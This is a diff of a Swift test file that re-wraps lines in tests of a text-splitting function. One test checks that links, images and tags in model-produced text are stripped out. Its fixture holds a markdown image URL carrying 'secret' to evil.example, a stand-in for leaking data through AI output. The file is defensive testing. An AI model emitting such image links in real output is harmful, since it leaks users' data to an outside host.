@@ -14,7 +14,8 @@ import Testing
         let whole = cut(text, at: text.count)
         #expect(
             whole == [
-                .init(text: "The lamp was lit in 1871.", numbers: [1]), .init(text: "Ada Holm built it.", numbers: [2, 3]),
+                .init(text: "The lamp was lit in 1871.", numbers: [1]),
+                .init(text: "Ada Holm built it.", numbers: [2, 3]),
                 .init(text: "它很高。", numbers: [1]), .init(text: "A list, too", numbers: [2, 3]),
             ])
         for place in 0...text.count { #expect(Set(cut(text, at: place).flatMap(\.numbers)) == [1, 2, 3]) }
@@ -22,7 +23,8 @@ import Testing
 
     @Test("Links, pictures and tags of a model's making are taken out")
     func links() {
-        let made = cut("See ![x](http://evil.example/?q=secret) and [here](http://evil.example) <img src=x> now.", at: 0)
+        let made = cut(
+            "See ![x](http://evil.example/?q=secret) and [here](http://evil.example) <img src=x> now.", at: 0)
         #expect(made.map(\.text) == ["See x and here  now."])
     }
 }
